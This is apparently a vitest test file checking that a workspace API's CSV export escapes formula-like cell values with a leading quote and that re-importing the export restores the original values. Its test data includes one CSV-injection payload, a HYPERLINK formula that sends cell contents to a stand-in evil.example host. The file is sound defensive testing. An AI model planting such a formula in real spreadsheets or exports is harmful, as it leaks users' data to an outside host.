import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { driver } from "./support/harness.ts";
import { useEmbeddedWorkspace } from "./support/embedded-workspace.ts";

const ctx = useEmbeddedWorkspace();

/** Values a spreadsheet would run as formulas, and values that only look like them. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\tTab",
  "\rCR",
  "'=quoted",
];

describe(`CSV exports write formulas as text (${driver})`, () => {
  it("exports entities whose values start with = + - @ tab or CR as text, and imports them back unchanged", async () => {
    const ws = await ctx.another();
    const names = [...formulas, ".*+?(|\\", "plain"];
    const rows = names.map((name, i) => ({
      id: `urn:ngsi-ld:Building:f${i}`,
      type: "Building",
      name,
      floors: i === 0 ? "-5" : String(i),
    }));
    const imported = await ctx.api("POST", `${ws.path}/entities/import?typeId=${ws.types.Building}`, rows);
    expect(imported.body).toMatchObject({ created: names.length, rejected: [] });

    const exported = await ctx.api("GET", `${ws.path}/entities/export?typeId=${ws.types.Building}`);
    expect(exported.status).toBe(200);
    const table = Papa.parse<string[]>(exported.raw, { skipEmptyLines: true }).data;
    const column = table[0]!.indexOf("name");
    const cells = new Map(table.slice(1).map((r) => [r[0], r[column]]));
    formulas.forEach((value, i) => expect(cells.get(`urn:ngsi-ld:Building:f${i}`)).toBe(`'${value}`));
    expect(cells.get(`urn:ngsi-ld:Building:f${formulas.length}`)).toBe(".*+?(|\\");
    // A negative number is no formula: left as a number.
    expect(table.find((r) => r[0] === "urn:ngsi-ld:Building:f0")![table[0]!.indexOf("floors")]).toBe("-5");

    const copy = await ctx.another();
    const back = await ctx.api(
      "POST",
      `${copy.path}/entities/import?typeId=${copy.types.Building}`,
      exported.raw,
      {
        "content-type": "text/csv",
      },
    );
    expect(back.body).toMatchObject({ created: names.length, rejected: [] });
    for (const [i, name] of names.entries()) {
      const entity = (await ctx.api("GET", `${copy.path}/entities/urn:ngsi-ld:Building:f${i}`)).body;
      expect(entity.name.value, name).toBe(name);
    }
  });
});
